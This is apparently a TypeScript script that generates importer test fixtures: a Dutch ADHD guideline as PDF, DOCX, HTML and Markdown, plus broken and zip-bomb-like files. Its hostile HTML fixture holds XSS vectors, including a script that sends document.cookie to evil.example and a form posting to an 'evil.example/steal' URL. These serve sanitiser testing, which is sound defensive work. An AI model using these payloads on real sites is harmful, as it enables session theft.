/**
 * Writes the test fixtures for the importers to tests/fixtures/import/. The fixtures are committed;
 * run this again only to change them: npx tsx scripts/make-import-fixtures.ts
 *
 * Everything is generated, nothing downloaded: PDFs with pdf-lib (a guideline-like document, a
 * truncated copy, a password-protected one written by hand because pdf-lib cannot encrypt, and a
 * scan-like one without text), DOCX archives with a small ZIP writer below (a normal one, a
 * zip-bomb-like one and a truncated one), HTML pages (a guideline site and a hostile page),
 * Markdown, and text in Windows-1252 and UTF-16.
 */
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { PDFDocument, rgb, StandardFonts, type PDFFont, type PDFPage } from 'pdf-lib';
import { zip, type ZipInput } from '../tests/fixtures/import/zip-writer.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const outDir = path.join(root, 'tests', 'fixtures', 'import');

function write(name: string, data: Uint8Array | string): void {
  fs.writeFileSync(path.join(outDir, name), data);
  const size = typeof data === 'string' ? Buffer.byteLength(data) : data.length;
  console.log(`${name.padEnd(28)} ${String(size).padStart(8)} bytes`);
}

// ---------------------------------------------------------------------------------------------
// PDF: a guideline of six pages.

const PAGE_W = 595;
const PAGE_H = 842;
const LEFT = 60;
const WIDTH = PAGE_W - 2 * LEFT;
const HEADER = 'Richtlijn ADHD – Conceptversie 2026';

interface Fonts {
  regular: PDFFont;
  bold: PDFFont;
}

/** Writes lines top-down and starts a new page (with header and footer) when the page is full. */
class Writer {
  page!: PDFPage;
  y = 0;
  pages: PDFPage[] = [];
  constructor(
    private readonly doc: PDFDocument,
    private readonly fonts: Fonts,
  ) {
    this.newPage();
  }
  newPage(): void {
    this.page = this.doc.addPage([PAGE_W, PAGE_H]);
    this.pages.push(this.page);
    this.y = PAGE_H - 90;
  }
  ensure(height: number): void {
    if (this.y - height < 80) this.newPage();
  }
  line(text: string, size = 11, bold = false, indent = 0): void {
    this.ensure(size * 1.4);
    this.page.drawText(text, { x: LEFT + indent, y: this.y, size, font: bold ? this.fonts.bold : this.fonts.regular });
    this.y -= size * 1.4;
  }
  gap(points = 8): void {
    this.y -= points;
  }
  /** Wraps text to the column width. */
  paragraph(text: string, size = 11, indent = 0): void {
    const words = text.split(' ');
    let current = '';
    for (const word of words) {
      const next = current ? `${current} ${word}` : word;
      if (this.fonts.regular.widthOfTextAtSize(next, size) > WIDTH - indent && current) {
        this.line(current, size, false, indent);
        current = word;
      } else {
        current = next;
      }
    }
    if (current) this.line(current, size, false, indent);
    this.gap();
  }
  /** Lines exactly as given (to put a hyphenated word at a line end). */
  lines(lines: string[], size = 11): void {
    for (const l of lines) this.line(l, size);
    this.gap();
  }
  heading(text: string, size: number): void {
    this.ensure(size * 3);
    this.gap(size * 0.6);
    this.line(text, size, true);
    this.gap(4);
  }
  bullets(items: string[]): void {
    for (const item of items) {
      const words = item.split(' ');
      let current = '';
      let first = true;
      const flush = (): void => {
        this.ensure(15);
        if (first) this.page.drawText('•', { x: LEFT + 6, y: this.y, size: 11, font: this.fonts.regular });
        this.page.drawText(current, { x: LEFT + 20, y: this.y, size: 11, font: this.fonts.regular });
        this.y -= 11 * 1.4;
        first = false;
      };
      for (const word of words) {
        const next = current ? `${current} ${word}` : word;
        if (this.fonts.regular.widthOfTextAtSize(next, 11) > WIDTH - 20 && current) {
          flush();
          current = word;
        } else {
          current = next;
        }
      }
      if (current) flush();
    }
    this.gap();
  }
  /** A recommendation in a grey box: bold title, then the text. */
  box(title: string, text: string): void {
    const words = text.split(' ');
    const lines: string[] = [];
    let current = '';
    for (const word of words) {
      const next = current ? `${current} ${word}` : word;
      if (this.fonts.regular.widthOfTextAtSize(next, 11) > WIDTH - 24 && current) {
        lines.push(current);
        current = word;
      } else {
        current = next;
      }
    }
    if (current) lines.push(current);
    const height = (lines.length + 1) * 15.4 + 20;
    this.ensure(height);
    this.gap(6);
    this.page.drawRectangle({ x: LEFT, y: this.y - height + 18, width: WIDTH, height, color: rgb(0.92, 0.94, 0.97), borderColor: rgb(0.3, 0.4, 0.6), borderWidth: 1 });
    this.y -= 4;
    this.line(title, 11, true, 12);
    for (const l of lines) this.line(l, 11, false, 12);
    this.gap(16);
  }
}

const FILLER = [
  'De werkgroep heeft de beschikbare literatuur beoordeeld en besproken met professionals, ouders en jongeren.',
  'Waar het onderzoek geen eenduidig antwoord gaf, zijn de ervaringen uit de praktijk zwaar meegewogen.',
  'De tekst is voorgelegd aan de beroepsverenigingen en aangepast op basis van hun commentaar.',
].join(' ');

async function guidelinePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setTitle('Richtlijn ADHD voor jeugdhulp en jeugdbescherming');
  doc.setAuthor('Werkgroep richtlijn ADHD');
  const fonts = { regular: await doc.embedFont(StandardFonts.Helvetica), bold: await doc.embedFont(StandardFonts.HelveticaBold) };
  const w = new Writer(doc, fonts);

  // Page 1: title and chapter 1.
  w.line('Richtlijn ADHD voor jeugdhulp en jeugdbescherming', 20, true);
  w.gap(6);
  w.paragraph('Conceptversie voor de commentaarronde, januari 2026. Deze tekst is nog niet geautoriseerd.');
  w.heading('1 Inleiding', 16);
  w.paragraph(
    'Deze richtlijn gaat over kinderen en jongeren met ADHD en hun ouders. Zij beschrijft wat professionals in de jeugdhulp en jeugdbescherming kunnen doen, van signalering tot behandeling en nazorg.',
  );
  w.heading('1.1 Afbakening', 13);
  w.paragraph(`De richtlijn is bedoeld voor jeugdprofessionals in wijkteams en in de specialistische jeugdhulp. ${FILLER}`);
  w.paragraph(`Medische behandeling valt buiten deze richtlijn en staat in de richtlijnen van de NVvP en het NHG. ${FILLER}`);
  w.newPage();

  // Page 2: chapter 2 with hyphenation, a list and a recommendation box.
  w.heading('2 Signalering en diagnostiek', 16);
  w.heading('2.1 Signalering', 13);
  w.lines([
    'Professionals letten op signalen van concentratieproblemen en onrust. Goede begelei-',
    'ding van ouders begint bij een zorgvuldige uitleg van wat ADHD wel en niet is. De',
    'jeugd- en gezinsprofessional bespreekt de zorgen altijd eerst met de ouders.',
  ]);
  w.paragraph('Signalen die om aandacht vragen zijn onder meer:');
  w.bullets([
    'aanhoudende concentratieproblemen thuis en op school;',
    'onrust en impulsief gedrag dat het dagelijks functioneren van het kind en het gezin ernstig en langdurig belemmert;',
    'zorgen van de leerkracht.',
  ]);
  w.box(
    'Aanbeveling 1',
    'Bespreek signalen van ADHD altijd eerst met de ouders en de jongere zelf, voordat je andere professionals inschakelt.',
  );
  w.heading('2.2 Diagnostiek', 13);
  w.lines([
    'Voor diagnostiek is een brede blik nodig. Ouders vragen vaak naar ADHD-',
    'medicatie; de professional legt uit welke stappen daaraan voorafgaan. Zij zoekt',
  ]);
  w.newPage();

  // Page 3: the paragraph goes on across the page break.
  w.lines(['samen met ouders en school naar verklaringen voor het gedrag van het kind.']);
  w.paragraph(`Diagnostiek gebeurt in samenwerking met de huisarts en de school. ${FILLER}`);
  w.heading('3 Behandeling', 16);
  w.heading('3.1 Psycho-educatie', 13);
  w.paragraph(`Psycho-educatie is de eerste stap van de behandeling. Ouders en jongeren krijgen uitleg over ADHD en over wat zij zelf kunnen doen. ${FILLER}`);
  w.heading('Onderbouwing', 11);
  w.paragraph('Onderzoek laat zien dat psycho-educatie de kennis van ouders vergroot en het vertrouwen in de behandeling versterkt.');
  w.heading('Overwegingen', 11);
  w.paragraph(`De werkgroep vindt dat psycho-educatie altijd samen met de jongere moet worden gegeven. ${FILLER}`);
  w.newPage();

  // Page 4: more treatment text and a numbered list.
  w.heading('3.2 Ouder- en leerkrachtbegeleiding', 13);
  w.paragraph(`Ouders en leerkrachten leren hoe zij het kind het beste kunnen ondersteunen. ${FILLER}`);
  w.paragraph('De begeleiding verloopt in drie stappen:');
  w.lines(['1. kennismaken en doelen bepalen;', '2. oefenen met nieuwe aanpakken;', '3. evalueren en afronden.']);
  w.paragraph(FILLER);
  w.newPage();

  // Page 5: chapter 4.
  w.heading('4 Samenwerking', 16);
  w.paragraph(`Samenwerking tussen jeugdhulp, school en huisarts is nodig om het kind goed te helpen. ${FILLER}`);
  w.paragraph(`Leg afspraken over de rolverdeling vast in het gezinsplan. ${FILLER}`);
  w.newPage();

  // Page 6: appendix.
  w.heading('Bijlage 1 Literatuur', 16);
  w.paragraph('Nederlandse Vereniging voor Psychiatrie (2022). Richtlijn ADHD bij kinderen. Utrecht: NVvP.');
  w.paragraph('Nederlands Huisartsen Genootschap (2014). NHG-Standaard ADHD bij kinderen. Utrecht: NHG.');

  // Running header and footer on every page.
  const total = w.pages.length;
  w.pages.forEach((page, i) => {
    page.drawText(HEADER, { x: LEFT, y: PAGE_H - 40, size: 9, font: fonts.regular, color: rgb(0.4, 0.4, 0.4) });
    page.drawText(`Pagina ${i + 1} van ${total}`, { x: PAGE_W / 2 - 30, y: 40, size: 9, font: fonts.regular, color: rgb(0.4, 0.4, 0.4) });
  });
  return doc.save({ useObjectStreams: false });
}

async function imageOnlyPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < 3; i++) {
    const page = doc.addPage([PAGE_W, PAGE_H]);
    // Grey blocks where a scanner would have put the page image.
    for (let r = 0; r < 12; r++) {
      page.drawRectangle({ x: LEFT, y: PAGE_H - 120 - r * 50, width: WIDTH - (r % 3) * 40, height: 30, color: rgb(0.75, 0.75, 0.75) });
    }
  }
  return doc.save({ useObjectStreams: false });
}

/**
 * A PDF with a standard security handler whose user password is not empty. pdf-lib cannot encrypt,
 * so the file is written by hand; the /U and /O values do not match the empty password, so a
 * reader must ask for one.
 */
function encryptedPdf(): Uint8Array {
  const hex = (n: number, seed: number): string => {
    let out = '';
    let x = seed;
    for (let i = 0; i < n; i++) {
      x = (x * 1103515245 + 12345) & 0x7fffffff;
      out += (x & 0xff).toString(16).padStart(2, '0');
    }
    return out;
  };
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>',
    '<< /Length 20 >>\nstream\n(versleutelde tekst)\nendstream',
    `<< /Filter /Standard /V 1 /R 2 /O <${hex(32, 7)}> /U <${hex(32, 11)}> /P -44 >>`,
  ];
  let body = '%PDF-1.4\n%\xE2\xE3\xCF\xD3\n';
  const offsets: number[] = [];
  objects.forEach((obj, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${obj}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) body += `${String(o).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Encrypt 5 0 R /ID [<${hex(16, 3)}> <${hex(16, 3)}>] >>\nstartxref\n${xref}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(body, 'latin1'));
}

// ---------------------------------------------------------------------------------------------
// DOCX: a minimal Word document, written with our own ZIP writer.

const W =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ' +
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const para = (text: string, style?: string, numId?: number): string =>
  `<w:p><w:pPr>${style ? `<w:pStyle w:val="${style}"/>` : ''}${numId ? `<w:numPr><w:ilvl w:val="0"/><w:numId w:val="${numId}"/></w:numPr>` : ''}</w:pPr><w:r><w:t xml:space="preserve">${esc(text)}</w:t></w:r></w:p>`;
const cell = (text: string): string => `<w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr>${para(text)}</w:tc>`;

/** A 1×1 PNG. */
const PNG_1X1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

const DRAWING =
  '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Afbeelding 1" descr="Logo"/>' +
  '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>' +
  '<pic:blipFill><a:blip r:embed="rId3"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';

function docxParts(withImage = false): ZipInput[] {
  const body = [
    ...(withImage ? [DRAWING] : []),
    para('Richtlijn ADHD – werkversie', 'Title'),
    para('1 Inleiding', 'Heading1'),
    para('Deze richtlijn beschrijft de coördinatie van zorg voor kinderen met ADHD. Eén professional houdt het overzicht.'),
    para('1.1 Doelgroep', 'Heading2'),
    para('De richtlijn is bedoeld voor:'),
    para('jeugdprofessionals in wijkteams', undefined, 1),
    para('gedragswetenschappers in de specialistische jeugdhulp', undefined, 1),
    para('jeugdartsen en jeugdverpleegkundigen', undefined, 1),
    para('2 Behandeling', 'Heading1'),
    para('Aanbeveling 2.1', 'Kop2'),
    para('Bied ouders altijd psycho-educatie aan voordat andere behandeling start.'),
    para('Overzicht van de stappen:'),
    `<w:tbl><w:tblPr><w:tblW w:w="6000" w:type="dxa"/></w:tblPr><w:tblGrid><w:gridCol w:w="3000"/><w:gridCol w:w="3000"/></w:tblGrid>` +
      `<w:tr>${cell('Stap')}${cell('Wie')}</w:tr><w:tr>${cell('Psycho-educatie')}${cell('Gedragswetenschapper')}</w:tr><w:tr>${cell('Oudertraining')}${cell('Jeugdprofessional')}</w:tr></w:tbl>`,
    para('Onderbouwing', 'Heading2'),
    para('Psycho-educatie verbetert de kennis van ouders over ADHD.'),
  ].join('');
  const documentXml = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document ${W}><w:body>${body}<w:sectPr/></w:body></w:document>`;
  const style = (id: string, name: string, type = 'paragraph'): string =>
    `<w:style w:type="${type}" w:styleId="${id}"><w:name w:val="${name}"/><w:basedOn w:val="Normal"/><w:qFormat/></w:style>`;
  const stylesXml =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:styles ${W}>` +
    `<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>` +
    style('Title', 'Title') +
    style('Heading1', 'heading 1') +
    style('Heading2', 'heading 2') +
    // A Dutch Word install names its heading styles "Kop 1", "Kop 2" …
    style('Kop2', 'Kop 2') +
    `</w:styles>`;
  const numberingXml =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:numbering ${W}>` +
    `<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="•"/></w:lvl></w:abstractNum>` +
    `<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`;
  const contentTypes =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
    `<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
    `<Default Extension="xml" ContentType="application/xml"/>` +
    `<Default Extension="png" ContentType="image/png"/>` +
    `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
    `<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>` +
    `<Override PartName="/word/numbering.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml"/>` +
    `</Types>`;
  const rels =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
  const docRels =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>` +
    `<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering" Target="numbering.xml"/>` +
    `<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>`;
  const u = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'utf8'));
  return [
    { name: '[Content_Types].xml', data: u(contentTypes) },
    { name: '_rels/.rels', data: u(rels) },
    { name: 'word/document.xml', data: u(documentXml) },
    { name: 'word/styles.xml', data: u(stylesXml) },
    { name: 'word/numbering.xml', data: u(numberingXml) },
    { name: 'word/_rels/document.xml.rels', data: u(docRels) },
    ...(withImage ? [{ name: 'word/media/image1.png', data: new Uint8Array(PNG_1X1), store: true }] : []),
  ];
}

// ---------------------------------------------------------------------------------------------
// HTML, Markdown and text.

const SITE_HTML = `<!DOCTYPE html>
<html lang="nl">
<head>
  <meta charset="utf-8">
  <title>ADHD | Richtlijnen Jeugdhulp en Jeugdbescherming</title>
  <link rel="stylesheet" href="/css/site.css">
  <style>.aanbeveling { background: #eef; }</style>
  <script src="/js/analytics.js"></script>
</head>
<body>
  <a class="skip-link" href="#main">Direct naar de inhoud</a>
  <div id="cookie-consent" class="cookie-banner">
    <p>Deze website gebruikt cookies voor statistieken. Akkoord?</p>
    <button>Accepteren</button>
  </div>
  <header class="site-header">
    <a href="/" class="logo">Richtlijnen Jeugdhulp en Jeugdbescherming</a>
    <nav role="navigation" aria-label="Hoofdmenu">
      <ul><li><a href="/richtlijnen">Alle richtlijnen</a></li><li><a href="/over">Over de richtlijnen</a></li><li><a href="/contact">Contactformulier</a></li></ul>
    </nav>
    <form class="search" action="/zoeken"><input name="q" placeholder="Zoeken op de site"><button>Zoek</button></form>
  </header>
  <nav class="breadcrumb"><a href="/">Home</a> › <a href="/richtlijnen">Richtlijnen</a> › ADHD</nav>
  <main id="main">
    <article>
      <h1>ADHD</h1>
      <p class="intro">Deze richtlijn helpt jeugdprofessionals bij het signaleren en begeleiden van kinderen met ADHD en hun ouders.</p>
      <h2>1 Inleiding</h2>
      <p>ADHD komt voor bij ongeveer vijf procent van de kinderen. De richtlijn beschrijft de rol van de jeugdprofessional naast die van de huisarts en de kinder- en jeugdpsychiater.</p>
      <h2>2 Signalering en diagnostiek</h2>
      <h3>2.1 Signalering</h3>
      <p>Signalen van ADHD zijn onder andere:</p>
      <ul>
        <li>problemen met concentratie;</li>
        <li>hyperactiviteit en impulsiviteit;</li>
        <li>problemen op school
          <ul><li>in de klas</li><li>op het schoolplein</li></ul>
        </li>
      </ul>
      <div class="aanbeveling">
        <h4>Aanbeveling 2</h4>
        <p>Bespreek signalen eerst met de ouders en met het kind, en betrek school pas daarna.</p>
      </div>
      <p>Na de signalering volgt zo nodig verwijzing.</p>
      <h3>2.2 Diagnostiek</h3>
      <p>De diagnose wordt gesteld door een <strong>BIG-geregistreerde</strong> professional.</p>
      <table class="tabel">
        <thead><tr><th>Fase</th><th>Wie</th></tr></thead>
        <tbody>
          <tr><td>Signalering</td><td>Jeugdprofessional, leerkracht</td></tr>
          <tr><td>Diagnostiek</td><td>Gedragswetenschapper, psychiater</td></tr>
        </tbody>
      </table>
      <div class="kader-advies"><p>Leg de afspraken over de rolverdeling vast in het gezinsplan.</p></div>
      <h3>Onderbouwing</h3>
      <p>De aanbevelingen zijn gebaseerd op de NVvP-richtlijn en op de ervaringen van ouders.</p>
    </article>
  </main>
  <aside class="sidebar"><h2>Gerelateerde richtlijnen</h2><ul><li>Angst</li><li>Depressie</li></ul></aside>
  <footer class="site-footer"><p>© 2026 Nederlands Jeugdinstituut · Privacyverklaring</p></footer>
</body>
</html>
`;

const HOSTILE_HTML = `<!doctype html>
<html>
<head>
  <title>Gevaarlijke pagina</title>
  <meta http-equiv="refresh" content="0;url=javascript:alert('META')">
  <base href="javascript:alert('BASE')//">
  <style>body { background: url("javascript:alert('STYLE')") } .x::after { content: "STIJLTEKST" }</style>
  <script>alert('SCRIPT-IN-HEAD'); document.write('GESCHREVEN')</script>
</head>
<body onload="alert('ONLOAD')">
  <h1 onclick="alert('ONCLICK')">Richtlijn veilig importeren</h1>
  <p>Gewone tekst over <a href="javascript:alert('HREF')">een link</a> en <a href="data:text/html,<script>alert('DATA')</script>">nog een</a>.</p>
  <img src="x" onerror="alert('ONERROR')" alt="ALTTEKST">
  <iframe src="https://evil.example/IFRAMESRC">IFRAMETEKST</iframe>
  <object data="evil.swf">OBJECTTEKST</object>
  <embed src="evil.swf">
  <svg><script>alert('SVG-SCRIPT')</script><text>SVGTEKST</text></svg>
  <math><mtext>MATHTEKST</mtext></math>
  <form action="https://evil.example/steal"><input name="pw" value="FORMWAARDE"><button>FORMKNOP</button></form>
  <noscript>NOSCRIPTTEKST</noscript>
  <template>TEMPLATETEKST</template>
  <p>Tweede alinea met <span style="background:url(javascript:alert('INLINESTYLE'))">opmaak</span>.</p>
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <div onmouseover="alert('MOUSEOVER')">Laatste alinea.</div>
</body>
</html>
`;

const MARKDOWN = `# Zorgstandaard ADHD

Een korte versie van de zorgstandaard, voor de test.

## 1 Signalering

Signalen worden besproken met **ouders** en [school](https://example.org).

- concentratieproblemen
- onrust
- impulsiviteit

## 2 Behandeling

### Kernaanbevelingen

1. Begin met psycho-educatie.
2. Bied oudertraining aan.

| Interventie | Voor wie |
|---|---|
| Psycho-educatie | Ouders en jongere |
| Oudertraining | Ouders |

<script>alert('md')</script>

Aanbeveling: evalueer de behandeling na drie maanden samen met ouders.

### Onderbouwing

De werkgroep baseert zich op de NVvP-richtlijn.
`;

const DUTCH_TEXT = `INLEIDING

Deze handreiking gaat over de coördinatie van zorg rond één gezin.
De professional in het café-overleg bespreekt de situatie – met toestemming – met collega’s.

1 Werkwijze

De werkwijze bestaat uit vier stappen en kost ongeveer € 150 per gezin.
`;

function windows1252(text: string): Uint8Array {
  const special: Record<string, number> = { '€': 0x80, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96, '—': 0x97, '•': 0x95 };
  return new Uint8Array([...text].map((ch) => special[ch] ?? (ch.charCodeAt(0) <= 0xff ? ch.charCodeAt(0) : 0x3f)));
}

function utf16(text: string, bigEndian: boolean): Uint8Array {
  const le = Buffer.from(`\uFEFF${text}`, 'utf16le');
  if (!bigEndian) return new Uint8Array(le);
  const be = Buffer.from(le);
  be.swap16();
  return new Uint8Array(be);
}

// ---------------------------------------------------------------------------------------------

async function main(): Promise<void> {
  fs.mkdirSync(outDir, { recursive: true });
  const guideline = await guidelinePdf();
  write('richtlijn-adhd.pdf', guideline);
  write('richtlijn-adhd-afgebroken.pdf', guideline.slice(0, Math.floor(guideline.length * 0.6)));
  write('versleuteld.pdf', encryptedPdf());
  write('gescand.pdf', await imageOnlyPdf());
  write('geen-pdf.pdf', '<!doctype html><html><body><p>404 – pagina niet gevonden</p></body></html>\n');

  const parts = docxParts();
  const docx = zip(parts);
  write('richtlijn.docx', docx);
  write('afgebroken.docx', docx.slice(0, Math.floor(docx.length / 2)));
  write('met-afbeelding.docx', zip(docxParts(true)));
  // 20 MB of zeros packs into about 20 KB: a ratio far above 100.
  write('zipbom.docx', zip([...parts, { name: 'word/media/opvulling.bin', data: new Uint8Array(20 * 1024 * 1024) }]));

  write('richtlijn-site.html', SITE_HTML);
  write('vijandig.html', HOSTILE_HTML);
  write('zorgstandaard.md', MARKDOWN);
  write('handreiking-cp1252.txt', windows1252(DUTCH_TEXT));
  write('handreiking-utf16le.txt', utf16(DUTCH_TEXT, false));
  write('handreiking-utf16be.txt', utf16(DUTCH_TEXT, true));
  const total = fs.readdirSync(outDir).reduce((n, f) => n + fs.statSync(path.join(outDir, f)).size, 0);
  console.log(`totaal ${total} bytes`);
}

await main();
